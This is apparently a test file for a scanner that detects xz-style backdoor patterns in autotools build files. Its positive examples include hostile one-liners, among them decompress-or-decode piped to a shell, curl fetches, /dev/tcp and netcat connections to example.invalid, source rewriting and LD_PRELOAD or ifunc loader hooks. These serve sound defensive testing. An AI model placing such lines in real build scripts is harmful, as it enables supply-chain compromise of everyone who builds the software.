import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { expandSet, hasCharacterMap } from '../../src/analyze/signals/tr-map.js';
import { alwaysPiped, assess, scanBuildFile, signals } from '../../src/analyze/signals/scan.js';
import { shippedTextsPath, TextStore } from '../../src/analyze/knowledge/texts-file.js';

const fired = (line: string, path = 'm4/x.m4') => scanBuildFile(path, `${line}\n`).map((h) => h.signal);

// Look-alikes in our own words, one or more per detector: each must fire.
const positives: Record<string, string[]> = {
  'grep-binary-tree': ['blob=`grep -aErls "^##[[:alnum:]]{4}##$" "$srcdir/" 2>/dev/null`', 'f=$(LC_ALL=C grep -al HELLO "$srcdir"/tests/*)'],
  'fixture-read': ['sed "1,/^MARK$/d" "$srcdir/tests/files/sample-2.bin"', 'cat $top_srcdir/tests/data.lzma'],
  'tr-charmap': [`hw_map='tr "\\t \\-_" " \\t_\\-"'`, `tr 'A-Za-z' 'N-ZA-Mn-za-m'`, `tr "\\114-\\321\\322-\\377\\35-\\47\\14-\\34\\0-\\13\\50-\\113" "\\0-\\377"`],
  'byte-slicing': ['(head -c +1024 >/dev/null) && head -c +2048', 'dd if="$f" bs=1 skip=317 count=40 2>/dev/null', 'tail -c +31 "$f"', 'cut -b 3-9'],
  'piped-decompress': ['cat "$f" | xz -d 2>/dev/null', 'echo "$p" | base64 -d > x', 'sed 1d "$f" | gzip -dc', 'cat x | unxz'],
  'variable-decompressor': ['sed "r\\n" $hw_file | eval $hw_map | $hw_[$1]_tool -d 2>/dev/null'],
  'decode-to-shell': ['xz -dc payload | sh', 'base64 -d blob | /bin/bash -s', 'gzip -dc x.gz | eval "$(cat)"', 'lzma -d < x | $SHELL'],
  'eval-in-pipeline': ['sed 1d f | eval $hw_map | cat', 'eval $hw_cfg | $SHELL 2>/dev/null'],
  'pipe-to-shell': ['cat script | sh', 'printf "%s" "$x" | $SHELL 2>/dev/null'],
  'eval-command-output': ['eval "$(sed -n 2p "$f")"', 'eval `cat "$srcdir/tests/cfg"`'],
  'writes-source': ['sed -i "s/return 0/return 1/" src/main.c', 'printf "%s\\n" "$x" >> $srcdir/src/crc64.c'],
  'loader-hook': ['LD_PRELOAD=$PWD/libhook.so make', 'unsigned int la_version(unsigned int v) { return v; }', 'void f(void) __attribute__((ifunc("resolve_f")));'],
  'network-fetch': ['curl -fsSL https://example.invalid/p.sh', 'wget -q -O - "$HW_URL" > p', 'git clone https://example.invalid/x.git', 'exec 3<>/dev/tcp/example.invalid/80', 'nc example.invalid 4444', 'netcat -w 3 example.invalid 4444'],
};

test('every detector has a look-alike that it catches', () => {
  for (const s of signals) assert.ok(positives[s.name], `no positive example for ${s.name}`);
  for (const [name, lines] of Object.entries(positives)) {
    for (const line of lines) assert.ok(fired(line).includes(name), `${name} should fire on: ${line} (got ${fired(line).join(', ')})`);
  }
});

// Lines from genuine autotools, libtool, gettext and config.sub output.
const negatives = [
  `as_tr_cpp="eval sed 'y%*$as_cr_letters%P$as_cr_LETTERS%;s%[^_$as_cr_alnum]%_%g'"`,
  `ac_cv_host=\`echo "$host" | tr '[a-z]' '[A-Z]'\``,
  `UNAME_MACHINE=\`echo "$UNAME_MACHINE" | tr '[:upper:]' '[:lower:]'\``,
  `x=\`echo $x | tr -d ' '\``,
  `  eval ac_cv_env_\${ac_var}_set=\\\${\${ac_var}+set}`,
  `  test -d "$as_dir" || eval $as_mkdir_p || {`,
  `    test -z "$as_dirs" || eval "mkdir $as_dirs"`,
  `(eval "$ac_compile") 2>conftest.er1`,
  `         | sh | sh1234 | sh1234elb \\`,
  `        dd bs=1 count=1 skip=4 2>/dev/null | hexdump -e '1/1 "%3d "'`,
  `	tardir=$(distdir) && $(am__tar) | eval GZIP= gzip $(GZIP_ENV) -c >$(distdir).tar.gz`,
  `	GZIP=$(GZIP_ENV) gzip -dc $(distdir).tar.gz | $(am__untar)`,
  `Report bugs to <a suitable curl mailing list: https://curl.se/mail/>.`,
  `  cat >./tests/configurehelp.pm <<_EOF`,
  `  cat >conftest.$ac_ext <<_ACEOF`,
  `# curl -O https://example.invalid/in-a-comment`,
  `dnl grep -aErls pattern in an m4 comment`,
  `if test "$(head -n 1 "$f")" = x; then`,
];

test('genuine build lines stay quiet', () => {
  for (const line of negatives) assert.equal(fired(line, 'configure'), [], line);
});

test('libtool evaluates a symbol pipe inside a pipeline: one medium signal, not enough to judge', () => {
  const line = `  func_cygming_ms_implib_tmp=\`$NM "$func_to_tool_file_result" | eval "$global_symbol_pipe" | $GREP '_NULL_IMPORT_DESCRIPTOR'\``;
  const hits = scanBuildFile('build-aux/ltmain.sh', line);
  assert.equal(hits.map((h) => h.signal), ['eval-in-pipeline']);
  assert.is(assess(hits), undefined);
});

test('tr character maps: permutations only', () => {
  assert.equal(expandSet('a-c\\t\\-'), [97, 98, 99, 9, 45]);
  assert.is(expandSet('[:upper:]'), undefined);
  assert.ok(hasCharacterMap(`tr "ab" "ba"`));
  assert.not.ok(hasCharacterMap(`tr "ab" "ab"`));
  assert.not.ok(hasCharacterMap(`tr 'a-z' 'A-Z'`));
  assert.not.ok(hasCharacterMap(`tr ' ' '_'`));
});

test('compiled sources only get the loader-hook detector', () => {
  assert.equal(scanBuildFile('src/a.c', 'system("xz -dc p | sh");\nunsigned la_version(unsigned v);\n').map((h) => h.signal), ['loader-hook']);
});

test('hits carry the line and the text; `only` limits the scan', () => {
  const text = 'echo hi\nxz -dc p | sh\n# xz -dc p | sh\n';
  const hits = scanBuildFile('build-aux/x.sh', text);
  assert.equal([...new Set(hits.map((h) => h.line))], [2]);
  assert.is(hits[0]!.text, 'xz -dc p | sh');
  assert.equal(scanBuildFile('build-aux/x.sh', text, new Set([1])), []);
});

test('assess: stages together are critical, one strong signal high, weak alone nothing', () => {
  const hit = (signal: string) => ({ signal, line: 1, text: '' });
  assert.is(assess([hit('grep-binary-tree'), hit('tr-charmap')])?.severity, 'critical');
  assert.is(assess([hit('tr-charmap'), hit('decode-to-shell')])?.severity, 'critical');
  assert.is(assess([hit('tr-charmap')])?.severity, 'high');
  assert.is(assess([hit('network-fetch'), hit('writes-source')])?.severity, 'high');
  assert.is(assess([hit('byte-slicing')]), undefined);
  assert.is(assess([hit('eval-command-output')]), undefined);
  assert.is(assess([]), undefined);
});

// The scan tests only the lines that match a signal's `needs`: a `needs` that
// misses a line its test accepts hides a signal. Checked on every line of the
// genuine build files the knowledge ships, on the look-alikes above in many
// surroundings (indented, cut at the length limit, CR line ends), and on
// random lines made of the detectors' own words.
const processed = (raw: string) => raw.trim().slice(0, 4000);

function neededLines(lines: Iterable<string>): string[] {
  const missed: string[] = [];
  for (const raw of lines) {
    const line = processed(raw);
    for (const s of signals) if (s.test(line) && !s.needs.test(raw)) missed.push(`${s.name}: ${raw.slice(0, 200)}`);
  }
  return missed;
}

test('needs: every line of genuine build files that a detector accepts has its needs', async () => {
  const store = new TextStore(shippedTextsPath);
  const lines = new Set<string>();
  for (const name of ['ltmain.sh', 'libtool.m4', 'config.guess', 'config.sub', 'gettext.m4', 'lib-link.m4', 'lib-prefix.m4', 'build-to-host.m4', 'po.m4', 'depcomp', 'install-sh', 'missing', 'compile', 'test-driver', 'ylwrap', 'threadlib.m4', 'host-cpu-c-abi.m4']) {
    const texts = await store.textsNamed(name);
    assert.ok(texts.length > 0, `no shipped text of ${name}`);
    for (const t of texts) for (const l of t.toString('latin1').split('\n')) lines.add(l);
  }
  assert.ok(lines.size > 20000, `only ${lines.size} lines`);
  assert.equal(neededLines(lines), []);
});

test('needs: the look-alikes hold theirs in any surroundings', () => {
  const all = Object.values(positives).flat();
  const lines: string[] = [];
  for (const p of all) {
    lines.push(p, `  ${p}`, `\t${p}\r`, `${p} # more`, `x=1; ${p}`, `(${p})`, `$(${p})`, `\`${p}\``, `${'a'.repeat(3995 - p.length / 2)} ${p}`, `${p}${'b'.repeat(5000)}`);
    for (let cut = 1; cut < p.length; cut++) lines.push(`${'c'.repeat(4000 - cut)}${p}`);
  }
  assert.equal(neededLines(lines), []);
});

test('needs: random lines of the detectors\' words', () => {
  const words = ['|', '||', ' | ', ';', '&', '&&', '(', ')', '$(', '`', '"', "'", '>', '>>', '2>', '<', '=', '-', '/', '$x', '$SHELL', '${CONFIG_SHELL}', 'sh', 'bash', '/bin/sh', '-s', '-c', 'eval', 'source', '.', '/dev/stdin', 'xz', 'unxz', 'xzcat', 'lzma', 'gzip', 'gunzip', 'zcat', 'bzip2', 'bzcat', 'zstd', 'unzstd', 'lz4', 'lzip', 'brotli', 'base64', 'openssl', 'enc', '-d', '-dc', '--decode', '--decompress', 'tr', '"\\t \\-_"', '" \\t_\\-"', "'a-z'", "'n-za-m'", "'ab'", "'ba'", 'grep', 'egrep', '-a', '-r', '-l', '-aErls', 'tests/', 'test/x.bin', 'f.xz', '.lz', 'sed', 'cat', 'head', 'tail', 'dd', 'cut', 'od', 'awk', '-c', '+1', 'skip=1', 'count=2', 'bs=1', '-b', '3', '-i', 'src/x.c', 'lib/y.h', '$srcdir/', 'curl', 'wget', 'https://h/p', 'git', 'clone', 'fetch', '/dev/tcp/h/80', 'nc', 'ncat', 'netcat', 'h', '4444', 'LD_PRELOAD=', 'LD_AUDIT', '_dl_audit_x', 'la_version', 'la_objopen', '__attribute__((', 'ifunc', '__ifunc__', '("r")));', '\r', '\t', '  '];
  let seed = 20240329;
  const next = () => {
    seed = (seed * 1103515245 + 12345) >>> 0;
    return seed >>> 8;
  };
  const pick = <T>(list: readonly T[]) => list[next() % list.length]!;
  const lines: string[] = [];
  for (let k = 0; k < 20000; k++) {
    const n = 2 + (next() % 9);
    const parts: string[] = [];
    for (let j = 0; j < n; j++) parts.push(pick(words));
    lines.push(parts.join(next() % 3 === 0 ? '' : ' '));
  }
  // The look-alikes, a few of their words replaced, dropped, doubled or joined.
  for (const p of Object.values(positives).flat()) {
    const tokens = p.split(' ');
    for (let k = 0; k < 400; k++) {
      const t = [...tokens];
      for (let edits = 1 + (next() % 3); edits > 0; edits--) {
        const at = next() % t.length;
        const op = next() % 4;
        if (op === 0) t[at] = pick(words);
        else if (op === 1) t.splice(at, 0, pick(words));
        else if (op === 2 && t.length > 1) t.splice(at, 1);
        else t[at] = `${t[at]}${pick(words)}`;
      }
      lines.push(t.join(' '));
    }
  }
  assert.equal(neededLines(lines), []);
  // A need the scan looks for only on lines with a `|` never matches one without.
  const piped = signals.filter((s) => alwaysPiped(s.needs));
  assert.equal(
    lines.filter((l) => !l.includes('|') && piped.some((s) => s.needs.test(l))),
    [],
  );
});

test('alwaysPiped: a need that opens or closes with a pipe, with no other alternative; the pipe detectors are those', () => {
  for (const re of [/\|[^\S\n]*\$/, /(?:xz|lz)[^\n]*\|/, /\|+x/, /(?:a|b)\|/, /[|(]x\|/, /\|(?:a|(?:b|c))/]) assert.ok(alwaysPiped(re), re.source);
  // An optional pipe, an alternative at the top level (also after an escaped backslash), a pipe in a class, no pipe.
  for (const re of [/\|*x/, /\|?x/, /\|{0,1}x/, /a|\|b/, /\|a|b/, /x\\|/, /[|]x/, /[(]a|b\|/, /eval/]) assert.not.ok(alwaysPiped(re), re.source);
  assert.equal(
    signals.filter((s) => alwaysPiped(s.needs)).map((s) => s.name),
    ['piped-decompress', 'variable-decompressor', 'decode-to-shell', 'pipe-to-shell'],
  );
});

test('a line longer than the cut does not make the scan slow, and is still tested as cut', () => {
  // Many starts of `xz … |` with no pipe, of `sed … -i` with no -i: a pattern run over the whole line would take the square of its length.
  const before = process.cpuUsage();
  for (const long of ['xz '.repeat(400_000), 'sed x '.repeat(200_000)]) {
    assert.equal(scanBuildFile('configure', `${long}\necho ok\n`), []);
    // Last, with no newline after it.
    assert.equal(scanBuildFile('configure', `echo ok\n${long}`), []);
  }
  const used = process.cpuUsage(before);
  // Work, not time on a clock: even a slow machine does this in far under a minute of CPU; the square would not end.
  assert.ok(used.user + used.system < 60e6, `${used.user + used.system} µs of CPU`);
  assert.equal(scanBuildFile('configure', `${'x'.repeat(5000)}\nxz -dc p | sh\n`).map((h) => `${h.line} ${h.signal}`), ['2 decode-to-shell', '2 pipe-to-shell']);
});

test('the scan finds on a whole file what testing every line finds', () => {
  const all = Object.values(positives).flat();
  const lines = [...negatives, '', '# xz -dc p | sh', ...all.map((p) => `  ${p}`), ...all.map((p) => `${p}\r`)];
  const text = lines.join('\n');
  const expected: string[] = [];
  for (const [k, raw] of lines.entries()) {
    const line = raw.trim();
    if (line === '' || /^(?:#(?!!)|dnl\b|\/\/|\/\*|\*)/.test(line)) continue;
    for (const s of signals) if (s.test(line)) expected.push(`${k + 1} ${s.name}`);
  }
  assert.equal(scanBuildFile('configure', text).map((h) => `${h.line} ${h.signal}`), expected);
  assert.equal(scanBuildFile('configure', `${text}\n`).map((h) => `${h.line} ${h.signal}`), expected);
});

test.run();
